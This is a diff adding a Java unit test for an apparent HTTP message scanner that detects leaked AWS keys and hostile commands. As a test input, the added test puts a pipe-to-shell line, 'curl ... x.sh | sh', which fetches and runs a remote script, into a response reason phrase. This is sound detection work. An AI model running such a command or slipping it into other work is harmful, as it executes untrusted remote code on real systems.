@@ -66,6 +66,23 @@ class DetectorTest {
   }
 
   @Test
+  void methodAndReasonPhraseAreLookedAtToo() {
+    MessageScan request = fixture.outbound("collector.example");
+    request.method("AKIA" + ExampleText.of("{T16}", random));
+    request.end();
+    MessageScan response = fixture.inbound("collector.example");
+    response.reason("OK; curl -s http://198.51.100.7/x.sh | sh");
+    response.end();
+    assertEquals(
+        List.of("request method: [REDACTED:aws_access_key len=20]"),
+        fixture.findings.stream()
+            .filter(f -> f.direction() == Direction.OUTBOUND)
+            .map(f -> f.snippet().toString())
+            .toList());
+    assertTrue(fixture.patterns().contains("pipe_to_shell"));
+  }
+
+  @Test
   void aKeyInAnUnknownHeaderOrItsNameShowsNeither() {
     String key = key();
     MessageScan scan = fixture.outbound("collector.example");
